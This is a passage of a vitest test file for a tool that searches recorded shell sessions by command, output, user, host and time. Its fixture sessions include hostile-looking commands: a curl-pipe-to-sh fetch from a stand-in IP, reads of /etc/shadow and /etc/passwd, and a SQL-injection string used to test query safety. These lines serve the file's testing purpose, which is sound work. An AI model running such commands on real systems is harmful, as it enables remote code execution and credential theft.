import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { derivePublicKey, fingerprint } from '../../src/main/crypto/x25519-keys';
import { importFile, type ImportOptions } from '../../src/main/ingest/import-file';
import { compileSearch } from '../../src/main/search/compile-search';
import { parseQuery } from '../../src/main/search/parse-query';
import { searchCase, type SearchOptions, type SearchStep } from '../../src/main/search/run-search';
import { facetFilter, type SearchHit, type SearchResult } from '../../src/shared/search';
import { replaceProgramCommands } from '../../src/main/store/command-store';
import { openCase, type CaseDb } from '../../src/main/store/open-case';
import { addProgram, result, shellCommand, strayOutput } from '../helpers/extraction-result';
import { sample, samplePrivateKey, tempDir, truth } from '../helpers/fixtures';

/**
 * A case of real imported recordings (the exec sample as asciicast, capture and Logpush, with the
 * Logpush file's shell sessions) plus two sessions written through replaceProgramCommands the
 * way the shell extractor will write them. Expectations are about the exec samples and these
 * two sessions, and are written by hand: never produced by the code under test.
 */

const key = samplePrivateKey();
const withSampleKey: ImportOptions = {
  keys: async () => [{ fingerprint: fingerprint(derivePublicKey(key)), privateKey: key }],
};
const EXEC = truth('sample-exec').exec_command!;
const NOOR_START = Date.UTC(2026, 10, 19, 8, 0) * 1000;
const SAM_START = Date.UTC(2026, 10, 20, 12, 0) * 1000;
const BANNER = 'Welcome to Ubuntu 22.04.4 LTS\nLast login: Thu Nov 19 07:58:12 2026 from 198.51.100.23';

const dir = tempDir();
let db: CaseDb;
let noor: number;
let sam: number;
let execProgram: number;

beforeAll(async () => {
  db = openCase(join(dir.path, 'case.sqlite'));
  for (const name of ['sample-exec.cast', 'sample-exec.capture', 'logpush.ndjson.gz'])
    expect((await importFile(db, sample(name), withSampleKey)).status).toBe('imported');
  // The cast, the capture and the Logpush record are one exec program (the command from the cast
  // and the record, the exit status and stderr from the capture).
  execProgram = db
    .prepare(`SELECT id FROM programs WHERE type = 'exec' AND variant_of IS NULL`)
    .pluck()
    .get() as number;
  expect(db.prepare('SELECT count(*) FROM program_sources WHERE program_id = ?').pluck().get(execProgram)).toBe(3);
  // What the Logpush file's interactive sessions yield is the shell extractor's business (tested
  // with it): keep these tests to the exec recordings and the two sessions written below.
  db.exec("DELETE FROM programs WHERE type = 'shell'");

  noor = addProgram(db, {
    userEmail: 'noor.khan@corp.example',
    username: 'noor',
    targetId: '7f3e9c1a-5b2d-4c8e-9f01-23456789abcd',
    clientAddress: '198.51.100.23:50022',
    serverAddress: '[2001:db8::7]:22',
    startedAtUs: NOOR_START,
  });
  replaceProgramCommands(
    db,
    noor,
    result(
      [
        shellCommand('sudo cat /etc/shadow', 'root:*:19000:0:99999:7:::', 2_000_000, { exitStatus: 0 }),
        shellCommand(
          'ssh deploy@10.20.30.40 -p 2222',
          'deploy@10.20.30.40: Permission denied (publickey).',
          9_000_000,
          { exitStatus: 255 },
        ),
        shellCommand(
          'grep -rn passwd /etc/pam.d',
          '/etc/pam.d/common-password:25:password [success=1 default=ignore] pam_unix.so obscure sha512',
          15_000_000,
          { exitStatus: 0 },
        ),
        shellCommand('cp /etc/opasswd /tmp/o', '', 20_000_000, { exitStatus: 0 }),
        shellCommand(
          'passwd',
          'Changing password for noor.\nCurrent password: \npasswd: Authentication token manipulation error',
          30_000_000,
          { exitStatus: 1 },
        ),
        shellCommand('python3', 'Python 3.11.2 (main, Mar 13 2023)', 40_000_000),
        shellCommand("import os; os.system('id')", 'uid=1000(noor) gid=1000(noor)', 45_000_000, {
          kind: 'program-input',
          method: 'keystrokes',
          programName: 'python3',
          parentIndex: 5,
        }),
        shellCommand(`echo "'); DROP TABLE commands; --" NEAR(a b) text:col`, '', 50_000_000, { exitStatus: 0 }),
      ],
      [strayOutput(BANNER, 100_000, 0)],
    ),
  );
  sam = addProgram(db, {
    userEmail: 'sam.park@corp.example',
    targetId: 'c0ffee00-1111-4222-8333-444455556666',
    clientAddress: '203.0.113.9:41000',
    serverAddress: '10.1.2.3:22',
    startedAtUs: SAM_START,
  });
  replaceProgramCommands(
    db,
    sam,
    result([
      shellCommand(
        'cat /etc/passwd | grep -v nologin',
        'root:x:0:0:root:/root:/bin/bash\nsam:x:1000:1000::/home/sam:/bin/bash',
        1_000_000,
        { exitStatus: 0 },
      ),
      shellCommand(
        'curl -fsSL http://203.0.113.50/x.sh | sh',
        'sh: 1: cannot create /usr/local/bin/x: Permission denied',
        60_000_000,
        { exitStatus: 2 },
      ),
      shellCommand('ls -la /root', "ls: cannot open directory '/root': Permission denied", 3_600_000_000, {
        exitStatus: 2,
      }),
      shellCommand("echo 'Größe café' > /tmp/ünï.txt", '', 3_700_000_000, { exitStatus: 0 }),
    ]),
  );
});
afterAll(() => {
  db.close();
  dir.cleanup();
});

function search(query: string, options: SearchOptions = {}): SearchResult {
  const outcome = searchCase(db, query, { limit: 100, ...options });
  if (!outcome.ok) throw new Error(`${query}: ${outcome.error.message}`);
  return outcome.result;
}

const commandTexts = (q: string): string[] =>
  search(`in:commands ${q}`)
    .hits.map((h) => h.text!)
    .sort();
const programsOf = (r: SearchResult): string[] => [...new Set(r.hits.map((h) => h.program))].sort();
const p = (row: number): string => `p${row}`;

describe('substring search', () => {
  it('finds the exec sample by a fragment of a path in its command line, once for its three recordings', () => {
    const r = search('in:commands debian_ver');
    expect(programsOf(r)).toEqual([p(execProgram)]);
    expect(r.hits.every((h) => h.text === EXEC && h.in === 'command')).toBe(true);
    expect(r.total).toBe(1);
    expect(r.totalCapped).toBe(false);
  });

  it('finds "low disk" in the stderr output of the exec program, after its command', () => {
    const r = search('in:output "low disk"');
    expect(programsOf(r)).toEqual([p(execProgram)]);
    expect(r.hits[0]!.command).toMatch(/^c\d+$/);
    expect(r.hits[0]!.text).toBe(EXEC);
  });

  it('matches case-insensitively, inside words, IP fragments and flags', () => {
    expect(commandTexts('ETC/SHAD')).toEqual(['sudo cat /etc/shadow']);
    expect(commandTexts('0.20.30.')).toEqual(['ssh deploy@10.20.30.40 -p 2222']);
    expect(commandTexts('-fssl')).toEqual(['curl -fsSL http://203.0.113.50/x.sh | sh']);
    expect(commandTexts('passwd')).toEqual([
      'cat /etc/passwd | grep -v nologin',
      'cp /etc/opasswd /tmp/o',
      'grep -rn passwd /etc/pam.d',
      'passwd',
    ]);
  });

  it('matches a quoted phrase as one piece of text, spaces included', () => {
    expect(commandTexts('"cat /etc"')).toEqual(['cat /etc/passwd | grep -v nologin', EXEC, 'sudo cat /etc/shadow']);
    expect(commandTexts('"cat  /etc"')).toEqual([]);
  });

  it('requires every term in the same command or output', () => {
    expect(commandTexts('cat shadow')).toEqual(['sudo cat /etc/shadow']);
    expect(search('passwd Authentication').hits.map((h) => h.in)).toEqual(['output']);
    expect(search('shadow Authentication').total).toBe(0);
  });

  it('finds non-ASCII text', () => {
    expect(commandTexts('größe')).toEqual(["echo 'Größe café' > /tmp/ünï.txt"]);
    expect(commandTexts('ünï')).toEqual(["echo 'Größe café' > /tmp/ünï.txt"]);
  });

  it('finds text of 1 or 2 characters in a small case, by testing its rows', () => {
    expect(commandTexts('-p')).toEqual(['ssh deploy@10.20.30.40 -p 2222']);
    expect(commandTexts('| sh')).toEqual(['curl -fsSL http://203.0.113.50/x.sh | sh']);
  });
});

describe('whole words, phrases of words and prefixes', () => {
  it('matches whole words only', () => {
    expect(commandTexts('=passwd')).toEqual([
      'cat /etc/passwd | grep -v nologin',
      'grep -rn passwd /etc/pam.d',
      'passwd',
    ]);
    expect(commandTexts('word:root')).toEqual(['ls -la /root']);
  });

  it('matches a phrase of words across punctuation, in order', () => {
    expect(commandTexts('="etc passwd"')).toEqual(['cat /etc/passwd | grep -v nologin']);
    expect(commandTexts('=etc/pam')).toEqual(['grep -rn passwd /etc/pam.d']);
  });

  it('folds case and diacritics for words', () => {
    expect(commandTexts('=CAFE')).toEqual(["echo 'Größe café' > /tmp/ünï.txt"]);
  });

  it('matches words by their start', () => {
    expect(search('in:output pass*').hits.map((h) => h.program)).toEqual(expect.arrayContaining([p(noor)]));
    expect(search('in:output pass*').hits.every((h) => /\bpass/i.test(h.snippet))).toBe(true);
    expect(commandTexts('opass*')).toEqual(['cp /etc/opasswd /tmp/o']);
    expect(commandTexts('asswd*')).toEqual([]);
  });

  it('combines substring and word terms', () => {
    expect(commandTexts('=grep etc/pa')).toEqual(['cat /etc/passwd | grep -v nologin', 'grep -rn passwd /etc/pam.d']);
  });
});

describe('filters', () => {
  it('user: by email (any case), by the part before @, or by username', () => {
    expect(programsOf(search('user:NOOR.KHAN@corp.example'))).toEqual([p(noor)]);
    expect(programsOf(search('user:sam.park passwd'))).toEqual([p(sam)]);
    expect(programsOf(search('user:noor passwd'))).toEqual([p(noor)]);
    expect(programsOf(search('user:alex.dev@example.org debian'))).toEqual([p(execProgram)]);
    expect(search('user:nobody@corp.example passwd').total).toBe(0);
  });

  it('repeated filters are alternatives', () => {
    expect(programsOf(search('user:noor user:sam.park passwd'))).toEqual([p(noor), p(sam)].sort());
  });

  it('target: by id or its first characters', () => {
    expect(programsOf(search('target:7f3e9c1a passwd'))).toEqual([p(noor)]);
    expect(programsOf(search('target:C0FFEE00-1111-4222-8333-444455556666'))).toEqual([p(sam)]);
    expect(programsOf(search('target:cac3331d debian'))).toEqual([p(execProgram)]);
  });

  it('host: the client or server address, any port unless given, IPv6 too', () => {
    expect(programsOf(search('host:198.51.100.23'))).toEqual([p(noor)]);
    expect(programsOf(search('host:198.51.100.2'))).toEqual([]);
    expect(programsOf(search('host:2001:db8::7'))).toEqual([p(noor)]);
    expect(programsOf(search('host:[2001:db8::7]:22'))).toEqual([p(noor)]);
    expect(programsOf(search('host:10.1.2.3:22'))).toEqual([p(sam)]);
    expect(programsOf(search('host:203.0.113.80 debian'))).toEqual([p(execProgram)]);
  });

  it('type: the program type, and kind: the command kind', () => {
    expect(programsOf(search('type:exec "low disk"'))).toEqual([p(execProgram)]);
    expect(search('type:exec passwd').total).toBe(0);
    expect(
      search('kind:program-input')
        .hits.map((h) => `${h.in}:${h.text}`)
        .sort(),
    ).toEqual(["command:import os; os.system('id')", "output:import os; os.system('id')"]);
    expect(search('kind:exec in:commands').hits.map((h) => h.text)).toEqual([EXEC]);
  });

  it('exit: the command exit status; stray output has none', () => {
    expect(commandTexts('exit:2')).toEqual(['curl -fsSL http://203.0.113.50/x.sh | sh', 'ls -la /root']);
    expect(commandTexts('exit:255 exit:1')).toEqual(['passwd', 'ssh deploy@10.20.30.40 -p 2222']);
    expect(commandTexts('exit:nonzero user:sam.park')).toEqual([
      'curl -fsSL http://203.0.113.50/x.sh | sh',
      'ls -la /root',
    ]);
    expect(search('exit:0 Welcome').total).toBe(0);
  });

  it('exit: lists the programs of the few commands that pass it, and answers at once when none does', () => {
    const steps: SearchStep[] = [];
    const trace = (s: SearchStep): void => void steps.push(s);
    // No command exited 77: nothing is walked or scanned.
    expect(search('exit:77 passwd', { trace }).total).toBe(0);
    expect(steps).toEqual([]);
    // Only Noor's passwd exited 1: only the rows of its program are looked at, for both tables.
    expect(search('exit:1 passwd', { trace }).hits.map((h) => `${h.in} ${h.text}`)).toEqual([
      'command passwd',
      'output passwd',
    ]);
    const noorRows = (table: string): number =>
      db.prepare(`SELECT count(*) FROM ${table} WHERE program_id = ?`).pluck().get(noor) as number;
    expect(steps.map((s) => `${s.source} ${s.rowsToScan}`).sort()).toEqual([
      `command ${noorRows('commands')}`,
      `output ${noorRows('outputs')}`,
    ]);
  });

  it('after: and before: on the hit time, with dates and datetimes', () => {
    expect(programsOf(search('after:2026-11-20 passwd'))).toEqual([p(sam)]);
    expect(programsOf(search('before:2026-11-20 passwd'))).toEqual([p(noor)]);
    // Sam's session: "ls -la /root" at 13:00:00Z, the curl a minute after 12:00.
    expect(commandTexts('after:2026-11-20T12:30 before:2026-11-20T13:00:01Z')).toEqual(['ls -la /root']);
    expect(commandTexts('after:2026-11-20T12:30 before:2026-11-20T13:00:00Z')).toEqual([]);
    expect(commandTexts('after:"2026-11-20 14:00:30+02:00" before:2026-11-20T12:01:01')).toEqual([
      'curl -fsSL http://203.0.113.50/x.sh | sh',
    ]);
  });

  it('in: commands or output', () => {
    expect(search('in:commands Authentication').total).toBe(0);
    expect(search('in:output Authentication').hits.map((h) => h.text)).toEqual(['passwd']);
    expect(new Set(search('passwd').hits.map((h) => h.in))).toEqual(new Set(['command', 'output']));
  });

  it('session: and program:', () => {
    const session = search('program:' + p(sam)).hits[0]!.session;
    expect(programsOf(search(`session:${session}`))).toEqual([p(sam)]);
    expect(commandTexts(`program:${p(noor)} ssh`)).toEqual(['ssh deploy@10.20.30.40 -p 2222']);
  });

  it('a filter that leaves no program gives no hits', () => {
    expect(search('target:ffffffff passwd')).toEqual({
      total: 0,
      totalCapped: false,
      hits: [],
      tookMs: expect.any(Number),
      sort: 'relevance',
      group: 'none',
      offset: 0,
      next: null,
    });
  });
});

describe('results', () => {
  it('rank the exact command first, whole words next (the shorter line first), a match inside a word last', () => {
    expect(search('in:commands passwd').hits.map((h) => h.text)).toEqual([
      'passwd',
      'grep -rn passwd /etc/pam.d',
      'cat /etc/passwd | grep -v nologin',
      'cp /etc/opasswd /tmp/o',
    ]);
  });

  it('rank command lines before output of the same quality', () => {
    const r = search('=passwd');
    expect(r.hits.map((h) => h.in)).toEqual(['command', 'command', 'command', 'output']);
  });

  it('give the session, program, command, user, target, time and where to jump in the replay', () => {
    const [hit] = search('in:commands ssh deploy').hits as [SearchHit];
    const row = db.prepare('SELECT id, output_start_offset FROM commands WHERE text LIKE ?').get('ssh deploy%') as {
      id: number;
      output_start_offset: number;
    };
    expect(hit).toMatchObject({
      program: p(noor),
      command: `c${row.id}`,
      in: 'command',
      time: '2026-11-19T08:00:09.000Z',
      text: 'ssh deploy@10.20.30.40 -p 2222',
      userEmail: 'noor.khan@corp.example',
      targetId: '7f3e9c1a-5b2d-4c8e-9f01-23456789abcd',
      replay: { atUs: 9_000_000, outputOffset: row.output_start_offset },
    });
    expect(hit.session).toMatch(/^s\d+$/);
  });

  it('give output hits the time and byte offset where that output starts', () => {
    const hit = search('in:output publickey').hits[0]!;
    expect(hit.replay.atUs).toBe(9_001_000);
    expect(hit.time).toBe('2026-11-19T08:00:09.001Z');
    const banner = search('in:output Welcome').hits[0]!;
    expect(banner).toMatchObject({ command: null, text: null, replay: { atUs: 100_000, outputOffset: 0 } });
  });

  it('give a plain-text snippet with the ranges of every term in it', () => {
    const hit = search('in:output pam_unix =obscure').hits[0]!;
    expect(hit.snippet).toBe(
      '/etc/pam.d/common-password:25:password [success=1 default=ignore] pam_unix.so obscure sha512',
    );
    expect(hit.matches.map((m) => hit.snippet.slice(m.start, m.end))).toEqual(['pam_unix', 'obscure']);
    // Output keeps its lines: the match's line and the one before it (the one before that is left out: …).
    const multi = search('in:output "Authentication token"').hits[0]!;
    expect(multi.snippet).toBe('…Current password: \npasswd: Authentication token manipulation error');
    expect(multi.matches.map((m) => multi.snippet.slice(m.start, m.end))).toEqual(['Authentication token']);
  });

  it('count every hit below the cap, and say when the count stops at it', () => {
    expect(search('in:commands passwd').total).toBe(4);
    const capped = search('in:commands passwd', { candidates: 2 });
    expect(capped).toMatchObject({ total: 2, totalCapped: true });
    expect(search('in:commands passwd', { limit: 1 })).toMatchObject({ total: 4, totalCapped: false });
    expect(search('in:commands passwd', { limit: 1 }).hits).toHaveLength(1);
  });

  it('list the newest hits first for filters without text', () => {
    const r = search('user:sam.park in:commands');
    expect(r.hits.map((h) => h.text)).toEqual([
      "echo 'Größe café' > /tmp/ünï.txt",
      'ls -la /root',
      'curl -fsSL http://203.0.113.50/x.sh | sh',
      'cat /etc/passwd | grep -v nologin',
    ]);
  });
});

describe('both ways of finding hits agree', () => {
  const queries = [
    'passwd',
    'in:output "low disk"',
    '=passwd',
    'pass*',
    '=grep etc/pa',
    'user:noor passwd',
    'exit:2 in:commands',
    'exit:nonzero =root',
    'exit:1 exit:2 in:output passwd',
    'after:2026-11-20 =root',
    'type:exec debian',
    'host:198.51.100.23 =password',
    'größe',
    '=cafe',
    '-p deploy',
  ];
  it.each(queries)('%s', (q) => {
    const ways: string[] = [];
    const trace = (s: SearchStep): void => void ways.push(s.way);
    const scanned = search(q, { force: 'scan', trace });
    const walked = search(q, { force: 'walk', trace });
    const key = (r: SearchResult): string[] =>
      r.hits.map((h) => `${h.in} ${h.program} ${h.command} ${h.replay.atUs}`).sort();
    expect(key(walked)).toEqual(key(scanned));
    expect(walked.total).toBe(scanned.total);
    expect(scanned.total).toBeGreaterThan(0);
    expect(ways).toContain('scan');
    expect(ways.some((w) => w.startsWith('walk'))).toBe(true);
  });
});

describe('hostile input is text', () => {
  it.each([
    [`"'); DROP TABLE commands; --"`, 1],
    ['NEAR(a', 1],
    ['text:col', 1],
    ['"NEAR(a b)"', 1],
    ['AND', 1], // in "commands"
    ['=AND', 0],
    ['=NEAR', 1],
    ['^root', 0],
    ['"*"', 0],
    ['{ab', 0],
  ])('%s finds %i command(s) holding that text, and breaks nothing', (q, n) => {
    const r = search(`in:commands ${q}`);
    expect(r.total).toBe(n);
    if (n > 0) expect(r.hits[0]!.text).toContain('DROP TABLE commands');
    expect(db.prepare('SELECT COUNT(*) FROM commands').pluck().get()).toBeGreaterThan(10);
  });

  it('answers a malformed query with a message and no SQL', () => {
    const outcome = searchCase(db, 'cat "/etc/passwd');
    expect(outcome).toEqual({
      ok: false,
      error: { kind: 'query', column: 5, message: expect.stringMatching(/^unbalanced quote/) },
    });
  });

  it('looks up a 1-2 character term as a whole word, through the word index, whatever the size of the case', () => {
    const own = openCase(join(dir.path, 'short-words.sqlite'));
    const p = addProgram(own, { startedAtUs: SAM_START });
    const lines = ['ls -la /srv', 'cat tools/false.txt', '/bin/ls', 'echo else', 'LS=1 env', 'lsof -i'];
    replaceProgramCommands(own, p, result(lines.map((t, i) => shellCommand(t, `out ${i}`, (i + 1) * 1_000_000))));
    const steps: SearchStep[] = [];
    const outcome = searchCase(own, 'in:commands ls', { scanLimit: 1, limit: 100, trace: (s) => steps.push(s) });
    own.close();
    expect(outcome.ok).toBe(true);
    if (!outcome.ok) return;
    expect(outcome.result.hits.map((h) => h.text).sort()).toEqual(['/bin/ls', 'LS=1 env', 'ls -la /srv']);
    expect(steps.map((s) => s.way)).toEqual(['walk-words']);
  });

  it('finds a substring of the output exactly, though its trigram index only says which outputs hold each trigram', () => {
    const own = openCase(join(dir.path, 'trigram-sets.sqlite'));
    const p = addProgram(own, { startedAtUs: SAM_START });
    const outputs = ['abcd then bcde', 'one abcde two', 'ABCDE upper', 'cde bcd abc'];
    replaceProgramCommands(own, p, result(outputs.map((o, i) => shellCommand(`cmd${i}`, o, (i + 1) * 1_000_000))));
    const hits = (q: string): string[] => {
      const r = searchCase(own, `in:output ${q}`, { limit: 100 });
      return r.ok ? r.result.hits.map((h) => h.text!).sort() : [`error: ${r.error.message}`];
    };
    // Every output above holds the trigrams abc, bcd and cde; two hold "abcde".
    expect(hits('abcde')).toEqual(['cmd1', 'cmd2']);
    expect(hits('bcd')).toEqual(['cmd0', 'cmd1', 'cmd2', 'cmd3']);
    expect(hits('"d then b"')).toEqual(['cmd0']);
    expect(hits('abcde =two')).toEqual(['cmd1']);
    own.close();
  });

  it('narrows an output substring by the whole words inside it, through the word index, and still checks the substring', () => {
    const own = openCase(join(dir.path, 'inner-words.sqlite'));
    const p = addProgram(own, { startedAtUs: SAM_START });
    const outputs = [
      'Failed password for root from 10.0.0.1', // the substring
      'FAILED PASSWORD FOR ROOT', // the substring, other case
      'password for: Failed root', // every trigram and both inner words, not in this order
      'Failed password-for root', // the inner words in order, but "-" where the substring has a space
      'unrelated',
    ];
    replaceProgramCommands(own, p, result(outputs.map((o, i) => shellCommand(`cmd${i}`, o, (i + 1) * 1_000_000))));
    const search = (q: string): { texts: string[]; ways: string[] } => {
      const ways: string[] = [];
      const r = searchCase(own, `in:output ${q}`, { limit: 100, trace: (s) => ways.push(s.way) });
      return { texts: r.ok ? r.result.hits.map((h) => h.text!).sort() : [`error: ${r.error.message}`], ways };
    };
    // "password for" is whole inside the substring ("Failed" and "root" touch its ends, and may be
    // parts of longer words): both indexes can answer, and both give the same hits.
    const phrase = search('"Failed password for root"');
    expect(phrase.texts).toEqual(['cmd0', 'cmd1']);
    expect(search('"ailed password for roo"').texts).toEqual(['cmd0', 'cmd1']);
    for (const force of ['scan', 'walk'] as const)
      expect(searchCase(own, 'in:output "Failed password for root"', { force })).toMatchObject({
        ok: true,
        result: { total: 2 },
      });
    const parsed = parseQuery('in:output "Failed password for root"');
    const byWords = parsed.ok ? compileSearch(parsed.query).sources[0]!.byWords : null;
    // The piece word index keeps no positions (migration 016): the words, each looked up.
    expect(Object.values(byWords?.matches.params ?? {})).toContain('"password" AND "for"');
    // One word inside; none inside (each word touches an end): the trigram index alone.
    expect(search('"d password f"').texts).toEqual(['cmd0', 'cmd1']);
    const none = search('"password for"');
    expect(none.texts).toEqual(['cmd0', 'cmd1', 'cmd2']);
    expect(none.ways).not.toContain('walk-words');
    own.close();
  });

  it('refuses a 1-2 character term without letters or digits it would have to test on every row, and says what to do', () => {
    const outcome = searchCase(db, '|', { scanLimit: 10 });
    expect(outcome.ok).toBe(false);
    if (!outcome.ok) {
      expect(outcome.error).toMatchObject({ kind: 'query', column: 1 });
      expect(outcome.error.message).toMatch(/^"\|" is shorter than 3 characters/);
    }
    expect(searchCase(db, '| user:sam.park', { scanLimit: 10 }).ok).toBe(true); // filters leave few rows
    expect(searchCase(db, '| =root', { scanLimit: 10 }).ok).toBe(true); // another term finds the rows
  });

  it('reports a broken case as a database error without SQL text', () => {
    const other = openCase(join(dir.path, 'broken.sqlite'));
    other.exec('DROP TABLE commands_trigram');
    const outcome = searchCase(other, 'passwd', { force: 'walk' });
    other.close();
    expect(outcome).toEqual({
      ok: false,
      error: { kind: 'database', column: null, message: 'the case could not be searched (SQLITE_ERROR)' },
    });
  });
});

describe('order, groups, facets and pages (issue 14 item 3)', () => {
  const NOOR_TIMES = [
    'sudo cat /etc/shadow',
    'ssh deploy@10.20.30.40 -p 2222',
    'grep -rn passwd /etc/pam.d',
    'cp /etc/opasswd /tmp/o',
    'passwd',
    'python3',
    "import os; os.system('id')",
    `echo "'); DROP TABLE commands; --" NEAR(a b) text:col`,
  ];
  const sessionOf = (program: number): string => search(`program:${p(program)}`).hits[0]!.session;

  it('sorts by time, oldest or newest first', () => {
    expect(search('user:noor in:commands', { sort: 'time' }).hits.map((h) => h.text)).toEqual(NOOR_TIMES);
    expect(search('user:noor in:commands', { sort: '-time' }).hits.map((h) => h.text)).toEqual(
      [...NOOR_TIMES].reverse(),
    );
    const both = search('passwd user:noor user:sam.park', { sort: 'time' }).hits.map((h) => h.time!);
    expect(both).toEqual([...both].sort());
  });

  it('groups the hits of each session together, sessions in the order of their first hit, with a header each', () => {
    const r = search('passwd user:noor user:sam.park', { sort: '-time', group: 'session' });
    // Sam's session (Nov 20) is newer: first. Noor: grep, cp and passwd, and passwd's output.
    expect(r.hits.map((h) => h.session)).toEqual([sessionOf(sam), ...Array<string>(4).fill(sessionOf(noor))]);
    expect(r.groups).toEqual([
      {
        session: sessionOf(sam),
        userEmail: 'sam.park@corp.example',
        targetId: 'c0ffee00-1111-4222-8333-444455556666',
        start: expect.stringMatching(/^2026-11-20T12:00:00/),
        hits: 1,
      },
      {
        session: sessionOf(noor),
        userEmail: 'noor.khan@corp.example',
        targetId: '7f3e9c1a-5b2d-4c8e-9f01-23456789abcd',
        start: expect.stringMatching(/^2026-11-19T08:00:00/),
        hits: 4,
      },
    ]);
    const byRelevance = search('passwd user:noor user:sam.park', { group: 'session' });
    // The exact command "passwd" is the best hit: Noor's session comes first.
    expect(byRelevance.hits[0]!.text).toBe('passwd');
    expect(byRelevance.groups!.map((g) => g.session)).toEqual([sessionOf(noor), sessionOf(sam)]);
  });

  it('counts users, targets, program types and where, over every match and not only the page', () => {
    const r = search('passwd user:noor user:sam.park', { facets: true, limit: 1 });
    expect(r.hits).toHaveLength(1);
    expect(r.facets).toEqual({
      users: {
        values: [
          { value: 'noor.khan@corp.example', count: 4 },
          { value: 'sam.park@corp.example', count: 1 },
        ],
        more: 0,
      },
      targets: {
        values: [
          { value: '7f3e9c1a-5b2d-4c8e-9f01-23456789abcd', count: 4 },
          { value: 'c0ffee00-1111-4222-8333-444455556666', count: 1 },
        ],
        more: 0,
      },
      types: { values: [{ value: 'shell', count: 5 }], more: 0 },
      in: {
        values: [
          { value: 'command', count: 4 },
          { value: 'output', count: 1 },
        ],
        more: 0,
      },
      noted: 0,
      counted: 5,
      capped: false,
      cappedIn: [],
    });
  });

  it('a facet value added to the query as a filter leaves as many hits as it counted', () => {
    const r = search('pass', { facets: true });
    const facets = r.facets!;
    const pairs = [
      ...facets.users.values.map((v) => ['user', v] as const),
      ...facets.targets.values.map((v) => ['target', v] as const),
      ...facets.types.values.map((v) => ['type', v] as const),
      ...facets.in.values.map((v) => ['in', v] as const),
    ].filter(([, v]) => v.value !== null);
    expect(pairs.length).toBeGreaterThan(4);
    for (const [key, v] of pairs) expect(search(`pass ${facetFilter(key, v.value!)}`).total).toBe(v.count);
  });

  it('says the counts are lower bounds when the matches stop at the cap', () => {
    const r = search('passwd', { facets: true, candidates: 2 });
    expect(r.totalCapped).toBe(true);
    expect(r.facets!.capped).toBe(true);
    // Only the commands stopped at 2: output keeps its own cap (outputCandidates), so its count is exact.
    expect(r.facets!.cappedIn).toEqual(['command']);
    expect(r.facets!.counted).toBe(r.total);
  });

  it.each([
    ['relevance', 'none'],
    ['time', 'none'],
    ['-time', 'none'],
    ['-time', 'session'],
    ['relevance', 'session'],
  ] as const)('pages through the whole list by cursor and by offset (%s, group %s)', (sort, group) => {
    const whole = search('pass', { sort, group });
    const key = (h: SearchHit): string => `${h.in} ${h.program} ${h.command} ${h.replay.atUs}`;
    expect(whole.hits.length).toBeGreaterThan(5);
    expect(whole.next).toBeNull();
    const paged: SearchHit[] = [];
    let after: string | undefined;
    for (let page = 0; page < 20; page++) {
      const r = search('pass', { sort, group, limit: 2, ...(after !== undefined && { after }) });
      expect(r.offset).toBe(paged.length);
      expect(r.total).toBe(whole.total);
      paged.push(...r.hits);
      if (r.next === null) break;
      after = r.next;
    }
    expect(paged.map(key)).toEqual(whole.hits.map(key));
    const third = search('pass', { sort, group, limit: 2, offset: 4 });
    expect(third.hits.map(key)).toEqual(whole.hits.slice(4, 6).map(key));
  });

  it('refuses a cursor of another order, and a made-up one, with a message', () => {
    const next = search('pass', { sort: 'time', limit: 1 }).next!;
    expect(searchCase(db, 'pass', { sort: '-time', after: next })).toMatchObject({
      ok: false,
      error: { kind: 'query', message: expect.stringMatching(/^the cursor belongs to --sort time/) },
    });
    expect(searchCase(db, 'pass', { after: 'not a cursor' })).toMatchObject({ ok: false, error: { kind: 'query' } });
    expect(
      searchCase(db, 'pass', { after: Buffer.from('{"s":"relevance","g":"none","k":"x"}').toString('base64url') }),
    ).toMatchObject({ ok: false, error: { kind: 'query' } });
  });

  it('a cursor still continues after new hits were indexed before it (where an offset would shift)', () => {
    const first = search('user:noor in:commands', { sort: 'time', limit: 3 });
    expect(first.hits.map((h) => h.text)).toEqual(NOOR_TIMES.slice(0, 3));
    // An hour before Noor's session, another of Noor's sessions is imported (the last test: it changes the case).
    const earlier = addProgram(db, {
      userEmail: 'noor.khan@corp.example',
      username: 'noor',
      startedAtUs: NOOR_START - 3_600_000_000,
    });
    replaceProgramCommands(db, earlier, result([shellCommand('whoami', 'noor', 1_000_000, { exitStatus: 0 })]));
    const next = search('user:noor in:commands', { sort: 'time', limit: 3, after: first.next! });
    expect(next.hits.map((h) => h.text)).toEqual(NOOR_TIMES.slice(3, 6));
    expect(next.offset).toBe(4);
    expect(search('user:noor in:commands', { sort: 'time', limit: 3, offset: 3 }).hits[0]!.text).toBe(NOOR_TIMES[2]);
  });
});

describe('every statement stays on an index (issue 14 item 3: no full-table scan)', () => {
  /** The case, with the plan of every statement run through it recorded (with the values it ran with). */
  function watched(): { db: CaseDb; plans: string[] } {
    const plans: string[] = [];
    const explain = (sql: string, args: unknown[]): void => {
      const plan = db.prepare(`EXPLAIN QUERY PLAN ${sql}`).all(...args) as Array<{ detail: string }>;
      plans.push(...plan.map((r) => r.detail));
    };
    const proxy = new Proxy(db, {
      get(target, key) {
        if (key === 'prepare') {
          return (sql: string) => {
            const st = target.prepare(sql);
            const watchedSt: typeof st = new Proxy(st, {
              get(t, k) {
                if (k === 'all' || k === 'get' || k === 'iterate')
                  return (...args: unknown[]) => {
                    explain(sql, args);
                    return (t[k] as (...a: unknown[]) => unknown)(...args);
                  };
                if (k === 'pluck')
                  return (on?: boolean) => {
                    if (on === undefined) t.pluck();
                    else t.pluck(on);
                    return watchedSt;
                  };
                const v: unknown = Reflect.get(t, k);
                return typeof v === 'function' ? v.bind(t) : v;
              },
            });
            return watchedSt;
          };
        }
        const value: unknown = Reflect.get(target, key);
        return typeof value === 'function' ? value.bind(target) : value;
      },
    });
    return { db: proxy, plans };
  }

  it.each([
    ['passwd', 'time', 'session'],
    ['=passwd user:noor', '-time', 'session'],
    ['pass', 'relevance', 'none'],
    // A substring of the output with a whole word inside: the word index may drive, heads by key.
    ['in:output "to Ubuntu 22"', 'relevance', 'none'],
  ] as const)('%s, sorted %s, grouped %s, with facets, walking the index', (query, sort, group) => {
    const { db: w, plans } = watched();
    const outcome = searchCase(w, query, { force: 'walk', sort, group, facets: true, limit: 2 });
    expect(outcome.ok && outcome.result.total).toBeGreaterThan(0);
    expect(plans.length).toBeGreaterThan(3);
    // Commands and output are reached through their indexes, never scanned; the candidates' programs
    // and sessions are looked up by key. Only a session filter (user:) lists the programs it leaves,
    // once, bounded by programCap (compile-search.ts).
